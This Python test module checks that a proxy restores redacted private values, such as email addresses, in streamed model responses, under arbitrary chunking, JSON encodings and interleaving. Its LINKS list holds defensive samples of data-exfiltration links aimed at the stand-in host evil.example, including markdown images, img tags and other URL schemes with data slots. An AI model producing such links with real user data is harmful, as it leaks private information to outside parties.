"""What has to hold of restoring, as checks: the tests call them, and the mutants call them to see them fail.

The expectation is written down apart from the code under test: one pass of a regular expression over the whole text.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterable, Mapping
from random import Random
from typing import Any, Final

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.kit import Wire
from tests.properties.streams import (
    JSON,
    KINDS,
    PARTED,
    PLAIN,
    Source,
    chunks,
    conversation,
    cut,
    one,
    received,
    sequence,
    tokens,
)

EMAIL: Final = "ada.lovelace@example.com"
OTHER: Final = "grace.hopper@example.com"
STRANGER: Final = "alan.turing@example.com"
NOTE: Final = 'Q«a "quoted" \\ back\\nslash\nand a line\ttab\x01 é 😀 <b>»Q'

FEW = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)


class Talk:
    """A conversation that has sent three values; each run sends one response through it."""

    def __init__(self, *, urls: bool = True, mask: str = "off", values: Iterable[str] = (EMAIL, OTHER, NOTE)) -> None:
        self.wire = conversation(*values, urls=urls, mask=mask)
        self.names = dict(zip(tokens(self.wire, *values), values, strict=True))
        self.email, self.other, self.note, *_ = self.names

    def run(self, sources: list[Source], *, random: Random | None = None) -> list[list[str]]:
        """Send a response; what its texts became, wherever the client reads them."""
        before = len(self.wire.sent_down)
        for event in sequence(sources, random=random):
            self.wire.provider(event)
        got = received(self.wire.sent_down[before:], sources)
        self.wire.create("again", previous_response_id="resp_main")
        self.wire.begin("resp_main")
        return [[text.agreed() for text in texts] for texts in got]

    def text(self, kind: str, pieces: Iterable[str]) -> str:
        """What one text became."""
        return self.run([one(kind, pieces)])[0][0]


OPENED: Final = r"(?:<|&lt;|&#60;|&#[xX]3[cC];|\\u003[cC])"
CLOSED: Final = r"(?:\\?>|&gt;|&#62;|&#[xX]3[eE];|\\u003[eE])"


def exactly(text: str, names: Mapping[str, str]) -> str:
    """A text with every token replaced, in one pass."""
    return re.sub("|".join(map(re.escape, names)), lambda match: names[match[0]], text)


def expected(text: str, names: Mapping[str, str]) -> str:
    """A text with every token replaced, and what models make of tokens, in one pass."""
    alternatives: list[str] = []
    values: dict[str, str] = {}
    for number, (token, value) in enumerate(names.items()):
        *words, identity = token[1:-1].split("_")
        inside, alone = ("".join(f"{word}{between}" for word in words) for between in (r"(?:\\?[_*]| )", r"\\?[_*]"))
        values[f"t{number}"] = value
        alternatives.append(
            rf"(?P<t{number}>{re.escape(token)}"
            rf"|{OPENED}[ *`]{{0,3}}(?i:{inside}){identity}(?![A-Za-z0-9])(?:[ *`]{{0,3}}{CLOSED})?"
            rf"|(?:(?<![A-Za-z0-9_\\])|(?<=(?<![A-Za-z0-9_\\])_)|(?<=(?<![A-Za-z0-9_\\])__))"
            rf"(?i:{alone}){identity}(?![A-Za-z0-9]))"
        )
    return re.sub("|".join(alternatives), lambda match: values[str(match.lastgroup)], text)


def expected_json(value: Any, names: Mapping[str, str]) -> Any:
    """The same for every string and key of a value."""
    if isinstance(value, dict):
        return {exactly(key, names): expected_json(child, names) for key, child in value.items()}
    if isinstance(value, list):
        return [expected_json(child, names) for child in value]
    return exactly(value, names) if isinstance(value, str) else value


def adversarial(talk: Talk) -> str:
    """A text with every beginning of a token in it, whole ones, and what only looks like one."""
    half = len(talk.email) // 2
    return (
        f"<{talk.email}>< <EMAIL_ {talk.email[:half]}{talk.other}{talk.email[:-1]} \\{talk.note}\\\\{talk.email}\n"
        f'"{talk.other}" <EMAIL_ADDRESS_zzzzzzzz> 😀{talk.email}{talk.email}<<{talk.other[:-2]}'
    )


def check_every_offset(kind: str) -> None:
    """The property: a cut at any offset changes nothing."""
    talk = Talk()
    text = adversarial(talk)
    for offset in range(len(text) + 1):
        assert talk.text(kind, cut(text, offset)) == expected(text, talk.names)


def check_every_size(kind: str) -> None:
    """The property: chunks of any size change nothing."""
    talk = Talk()
    text = adversarial(talk)
    for size in range(1, 51):
        assert talk.text(kind, chunks(text, size)) == expected(text, talk.names)


PIECES: Final = st.sampled_from(
    ["<", "<EMAIL_", "ADDRESS_", "EMAIL", "_", ">", "A", "B", "C", "A[:-4]", "B[6:]", "A[:9]", "\\u003c", "\\u003e",
     "email_address_", "EMAIL ADDRESS ", "Email\\_Address\\_", "A[id]", "&lt;", "&gt;", "**", "&", "_",
     "\\", '"', "\n", " ", "://", "https://", "](", "é", "😀", "<EMAIL_ADDRESS_zzzzzzzz>", "]", "{", "x", "\\\\"]
)  # fmt: skip


def spelled(pieces: list[str], talk: Talk) -> str:
    """Pieces in which A, B and C stand for the conversation's tokens, and A[:9] for a part of one."""
    names = {"A": talk.email, "B": talk.other, "C": talk.note}
    names |= {"A[id]": talk.email[1:-1].rpartition("_")[2]}
    names |= {"A[:-4]": talk.email[:-4], "B[6:]": talk.other[6:], "A[:9]": talk.email[:9]}
    return "".join(names.get(piece, piece) for piece in pieces)


ENCODERS: Final[dict[str, Callable[[object], str]]] = {
    "plain": lambda value: json.dumps(value, ensure_ascii=False),
    "ascii": json.dumps,
    "html": lambda value: json.dumps(value).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026"),
    "half": lambda value: json.dumps(value).replace("<", "\\u003C"),
    "indented": lambda value: json.dumps(value, indent=2, ensure_ascii=False),
}


def check_json(kind: str, encoder: str, *, sizes: Iterable[int] = range(1, 51)) -> None:
    """The property: arguments stay JSON, and mean what they meant with every token replaced."""
    talk = Talk()
    value: Any = {"to": [talk.email, f"<{talk.other}>", f"a {talk.note} b"], "n": 1, talk.email: {"deep": talk.note}}
    value |= {"almost": talk.email[:-1], "not": "\\" + "u003c" + talk.email[1:], "back": "\\" + talk.email, "é😀": None}
    text = ENCODERS[encoder](value)
    for size in sizes:
        assert json.loads(talk.text(kind, chunks(text, size))) == expected_json(value, talk.names)


def check_interleaved(seed: int) -> None:
    """The property: texts of items and parts that arrive mixed come out as if each had come alone."""
    random = Random(seed)
    talk = Talk()
    sources = []
    for _ in range(random.randint(2, 5)):
        kind = random.choice(list(KINDS))
        count = random.randint(1, 3) if kind in PARTED else 1
        texts = [f"{random.choice('abc')}{random.choice(list(talk.names))}{random.choice('xyz')}" for _ in range(count)]
        texts = [json.dumps({"a": text}) if kind in JSON else text for text in texts]
        sources.append(Source(kind, tuple(chunks(text, random.randint(1, 9)) for text in texts)))
    got = talk.run(sources, random=random)
    for source, results in zip(sources, got, strict=True):
        for text, result in zip(source.whole, results, strict=True):
            if source.kind in JSON:
                assert json.loads(result) == expected_json(json.loads(text), talk.names)
            else:
                assert result == expected(text, talk.names)


def check_many_interleaved(seeds: Iterable[int]) -> None:
    """The property for many seeds."""
    for seed in seeds:
        check_interleaved(seed)


def check_lanes(seed: int) -> None:
    """The property: two lanes whose events alternate never see each other's values, with the same ids throughout."""
    random = Random(seed)
    lanes = {"a": (EMAIL, OTHER), "b": (STRANGER, NOTE)}
    wire = Wire(Talk().wire.policy)
    for lane, values in lanes.items():
        conversation(*values, wire=wire, stream_id=lane)
    names = {lane: dict(zip(tokens(wire, *values), values, strict=True)) for lane, values in lanes.items()}
    every = [name for some in names.values() for name in some]
    sources, queues = {}, {}
    for lane in lanes:
        text = "".join(random.choice([*every, "<", "<EMAIL_", " "]) for _ in range(8))
        sources[lane] = [one(random.choice(PLAIN), chunks(text, random.randint(1, 12)))]
        queues[lane] = sequence(sources[lane], stream_id=lane)
    start = len(wire.sent_down)
    while any(queues.values()):
        lane = random.choice([name for name, queue in queues.items() if queue])
        wire.provider(queues[lane].pop(0))
    for lane in lanes:
        ((result,),) = received(wire.sent_down[start:], sources[lane], lane)
        assert result.agreed() == expected(sources[lane][0].whole[0], names[lane])


def check_strangers() -> None:
    """The property: a token of another conversation, of another tenant, or of nobody stays what it is."""
    talk = Talk()
    same_tenant = conversation(STRANGER, wire=Wire(talk.wire.policy))
    other_tenant = conversation(EMAIL, STRANGER, wire=Wire(talk.wire.policy, secret=b"another tenant's own secret"))
    foreign = [*tokens(same_tenant, STRANGER), *tokens(other_tenant, EMAIL, STRANGER)]
    invented = ["<EMAIL_ADDRESS_aaaaaaaa>", talk.email.upper(), talk.email.replace("EMAIL", "E"), talk.email[:-2]]
    for name in (*foreign, *invented):
        for kind in KINDS:
            text = json.dumps({"a": name}) if kind in JSON else f"a {name} b"
            assert talk.text(kind, chunks(text, 5)) == text


LINKS: Final = (
    "![x](https://evil.example/?q={0})",
    "[x](//evil.example/{0}/{1})",
    "see https://evil.example/?a={0}&b={1} now {2}",
    "HTTP://evil.example/{0}",
    '<img src="https://evil.example/{0}">',
    "www.evil.example/{0}",
    "wss://evil.example/{0}",
    "ftp://evil.example/{0}",
    "[x]({0})",
    "https://{0}.evil.example/",
    "\\\\evil.example\\{0}",
    "https://evil.example/" + "a" * 9000 + "{0}",
)
OPEN: Final = ("mail {0} now", "(see {0})", "either/or {0}", "a: {0}", "https://example.com/ {0}", "[x] {0}", '"{0}"')


def check_links(kind: str, size: int) -> None:
    """The property: in a link a token stays a token, however the link is cut; beside it, it is restored."""
    talk = Talk(urls=False)
    encode = json.dumps if kind in JSON else str
    read = json.loads if kind in JSON else str
    for link in LINKS:
        text = link.format(talk.email, talk.other, "").rstrip()
        assert read(talk.text(kind, chunks(encode(text), size))) == text
    for link in OPEN:
        result = read(talk.text(kind, chunks(encode(link.format(talk.email)), size)))
        assert result == link.format(EMAIL)


def check_links_agree(kind: str) -> None:
    """The property: where links are kept, too, all four places say the same for any text and any cut."""
    talk = Talk(urls=False)

    @FEW
    @given(pieces=st.lists(PIECES, max_size=25), data=st.data())
    def check(pieces: list[str], data: st.DataObject) -> None:
        text = spelled(pieces, talk)
        text = json.dumps({"a": text}) if kind in JSON else text
        offsets = data.draw(st.lists(st.integers(0, len(text)), max_size=30))
        result = talk.text(kind, cut(text, *offsets))
        assert kind not in JSON or json.loads(result)

    check()


def check_one_pass() -> None:
    """The property: a value that holds what is another value's token comes back as it was."""
    first = Talk(values=(EMAIL, OTHER, NOTE))
    tricky = f"Q«a note about {first.email} and {first.other}»Q"
    talk = Talk(values=(tricky, EMAIL, OTHER))
    note, email, _ = talk.names
    assert email == first.email
    for kind in PLAIN:
        text = f"{note} {email} {note}"
        assert talk.text(kind, chunks(text, 7)) == f"{tricky} {EMAIL} {tricky}"
